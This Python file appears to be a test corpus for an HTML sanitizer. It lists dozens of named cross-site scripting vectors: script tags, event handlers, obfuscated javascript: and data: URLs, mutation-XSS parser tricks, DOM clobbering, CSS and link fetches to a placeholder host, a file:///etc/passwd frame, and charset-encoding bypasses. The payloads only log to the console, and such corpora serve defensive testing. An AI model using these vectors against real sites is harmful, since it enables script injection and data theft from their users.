"""Documents that do harm in a browser: what runs, what is asked for, what leads away; a line a vector."""

AWAY = "https://away.invalid"
RUN = "console.error('ran')"
ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:console.error(1)")
FRAME = f"&lt;script&gt;{RUN}&lt;/script&gt;"
DATA = f"data:text/html,<script>{RUN}</script>"

VECTORS = {
    # elements and handlers that run
    "script": f"<script>{RUN}</script>",
    "script-src": f"<script src={AWAY}/a.js></script>",
    "script-odd": f"<ScRiPt/x>{RUN}</sCrIpT\t>",
    "script-nested": f"<scr<script>ipt>{RUN}</script>",
    "script-module": f"<script type=module src={AWAY}/m.js></script><link rel=modulepreload href={AWAY}/n.js>",
    "onerror": f"<img src=x onerror={RUN}>",
    "onerror-slashes": f"<img/src=x/onerror={RUN}>",
    "onload-body": f'<body onload="{RUN}" onpageshow="{RUN}" onfocus="{RUN}" onhashchange="{RUN}">',
    "onfocus": f'<input autofocus onfocus="{RUN}"><p tabindex=0 autofocus onfocus="{RUN}">x</p>',
    "ontoggle": f'<details open ontoggle="{RUN}"><summary onclick="{RUN}">x</summary>y</details>',
    "onanimation": f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{RUN}">x</p>',
    "ontransition": f'<p style="transition:color 1s" ontransitionend="{RUN}" onpointerenter="{RUN}">x</p>',
    "onbegin": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "cell": f'<table onclick="{RUN}"><tr onmouseover="{RUN}"><td onclick="{RUN}" colspan=\'2" onclick="{RUN}\'>x',
    # addresses that run
    "href-js": f"<a href=\"javascript:{RUN}\">x</a><area href='javascript:{RUN}'>",
    "href-entities": f'<a href="{ENTITIES}">x</a>',
    "href-tab": f'<a href=" java\tscript\n:{RUN}">x</a><a href="\x01javascript:{RUN}">y</a>',
    "href-data": f'<a href="{DATA}" target=_self>x</a>',
    "src-js": f'<iframe src="javascript:{RUN}"></iframe><embed src="javascript:{RUN}">',
    "srcdoc": f'<iframe srcdoc="{FRAME}"></iframe>',
    "action-js": f'<form action="javascript:{RUN}"><button>x</button></form>',
    "formaction": f'<form><button formaction="javascript:{RUN}">x</button><input type=image src={AWAY}/i formaction={AWAY}/f></form>',
    "form-outside": f"<form id=f action={AWAY}/f></form><button form=f>x</button><input type=submit form=f>",
    "isindex": f'<isindex action="javascript:{RUN}" type=submit>',
    "xlink": f'<svg><a xlink:href="javascript:{RUN}"><text y=9>x</text></a><use xlink:href="{AWAY}/u.svg#a"/></svg>',
    "svg-set": f'<svg><a id=b><text y=9>x</text></a><set href="#b" attributeName=href to="javascript:{RUN}"/></svg>',
    "svg-script": f"<svg><script href={AWAY}/s.js></script><script>{RUN}</script></svg>",
    "svg-image": f"<svg><image href={AWAY}/a.png /><feImage href={AWAY}/b.png /></svg>",
    "svg-foreign": f"<svg><foreignObject><body onload={RUN}><img src=x onerror={RUN}></foreignObject></svg>",
    "math": f'<math href="javascript:{RUN}">x</math><math><maction actiontype=statusline xlink:href="javascript:{RUN}">y',
    # mutation: one tree when read, another when it is written and read again
    "mxss-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mxss-style": f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    "mxss-math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    "mxss-form": f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    "mxss-title": f'<svg><title><style><img src="</style><img src=x onerror={RUN}>">',
    "mxss-textarea": f'<textarea><p title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "mxss-xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><listing>&lt;img src=x onerror={RUN}&gt;</listing>',
    "mxss-noembed": f'<noembed><p title="</noembed><img src=x onerror={RUN}>"><noframes><p title="</noframes><img src=x onerror={RUN}>">',
    "mxss-select": f"<select><option><style></option></select><img src=x onerror={RUN}></style>",
    "mxss-annotation": f'<math><annotation-xml encoding="text/html"><style><img src=x onerror={RUN}></style></math>',
    "mxss-nested-tables": "<table><td>" * 600 + f"<svg><style><img src=x onerror={RUN}>",
    "cdata": f"<![CDATA[<img src=x onerror={RUN}>]]><svg><![CDATA[><img src=x onerror={RUN}>]]></svg>",
    "comment": f"<!--><img src=x onerror={RUN}>--> <!-- --!><img src=x onerror={RUN}> <!-<img src=x onerror={RUN}>",
    "comment-open": f"x<!-- <img src=x onerror={RUN}>",
    "bogus": f"<?xml <img src=x onerror={RUN}>?></ <img src=x onerror={RUN}>><%<img src=x onerror={RUN}>%>",
    "attribute": f'<p title="--></title></style></script><img src=x onerror={RUN}>" id="cell-0-0-0">x</p>',
    "escaped": f"&lt;img src=x onerror={RUN}&gt;&amp;lt;script&amp;gt;{RUN}",
    "plaintext": f"<plaintext><img src=x onerror={RUN}>",
    "template": f"<template><img src=x onerror={RUN}><script>{RUN}</script></template>",
    "shadow": f"<div><template shadowrootmode=open><img src=x onerror={RUN}><slot></slot></template>x</div>",
    "clobber": '<form name=body><input name=attributes></form><a id=location href="https://away.invalid/c">x</a>',
    # what is asked for
    "style-url": f"<style>@import '{AWAY}/i.css'; body,td{{background:url({AWAY}/b)}} @font-face{{font-family:f;src:url({AWAY}/f)}} *{{font-family:f}}</style>x",
    "style-attribute": f'<p style="background:url({AWAY}/b);width:expression({RUN});behavior:url({AWAY}/h);list-style:url({AWAY}/l)">x</p>',
    "style-escape": f'<p style="background:u\\72l({AWAY}/b)">x</p><p style="background:image-set(\'{AWAY}/s\' 1x)">y</p>',
    "style-close": f"<table><td style='</style><img src=x onerror={RUN}>'>x</table>",
    "link": "".join(
        f'<link rel="{rel}" href="{AWAY}/{rel}" as=image>'
        for rel in ("stylesheet", "preload", "prefetch", "icon", "manifest", "preconnect", "dns-prefetch", "prerender")
    ),
    "refresh": f'<meta http-equiv=refresh content="0;url={AWAY}/r">',
    "refresh-js": f'<meta http-equiv=refresh content="0;url=javascript:{RUN}"><meta http-equiv=set-cookie content=a=b>',
    "base": f'<base href="{AWAY}/" target=_top><img src=a.png>',
    "frames": f"<iframe src={AWAY}/a></iframe><object data={AWAY}/b></object><embed src={AWAY}/c><applet code={AWAY}/d></applet><portal src={AWAY}/e></portal><fencedframe src={AWAY}/f></fencedframe>",
    "frameset": f"<frameset onload={RUN}><frame src={AWAY}/a></frameset>",
    "object-data": f'<object data="{DATA}"></object><embed src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{RUN}\'/>">',
    "srcset": f'<img srcset="{AWAY}/a 1x, {AWAY}/b 2x"><picture><source srcset={AWAY}/c><img src={AWAY}/d loading=eager></picture>',
    "media": f"<video src={AWAY}/v poster={AWAY}/p autoplay></video><audio src={AWAY}/a autoplay></audio><video><track default src={AWAY}/t><source src={AWAY}/s onerror={RUN}></video>",
    "background": f"<body background={AWAY}/a><table background={AWAY}/b><td background={AWAY}/c>x</table>",
    "old": f"<img lowsrc={AWAY}/a dynsrc={AWAY}/b><bgsound src={AWAY}/c><layer src={AWAY}/d></layer><image src={AWAY}/e>",
    "ping": f'<a href="#x" ping="{AWAY}/p" attributionsrc={AWAY}/q>x</a><img attributionsrc={AWAY}/s src={AWAY}/r>',
    "cite": f"<q cite={AWAY}/a>x</q><blockquote cite={AWAY}/b>x</blockquote><del cite={AWAY}/c>y</del>",
    "local": '<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/hostname"><link rel=stylesheet href="file:///a.css">',
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{AWAY}/s"]}}]}}</script>',
    "download": f'<a href="{AWAY}/d" download target=_blank rel=opener>x</a>',
    "popover": f'<button popovertarget=p>x</button><div id=p popover onbeforetoggle="{RUN}">y</div><dialog open onclose={RUN}><form method=dialog><button>z</button></form></dialog>',
}  # fmt: skip
BYTES = {
    "utf-16": (f"<img src=x onerror={RUN}>".encode("utf-16"), None),
    "utf-7": (f"<meta charset=utf-7>+ADw-img src=x onerror={RUN}+AD4-".encode(), "utf-7"),
    "lone-lead": (b'<meta charset=gbk><p title="\x81"><img src=x onerror=' + RUN.encode() + b'>">', "gbk"),
    "iso-2022": (b"<meta charset=iso-2022-jp>\x1b(J<img src=x onerror=" + RUN.encode() + b">", "iso-2022-jp"),
    "zeros": (b"<\x00img src=x on\x00error=" + RUN.encode() + b"><scr\x00ipt>" + RUN.encode(), None),
    "overlong": (b"\xc0\xbcimg src=x onerror=" + RUN.encode() + b"\xc0\xbe", "utf-8"),
}
DOCUMENTS = {name: (vector.encode(), "utf-8") for name, vector in VECTORS.items()} | BYTES
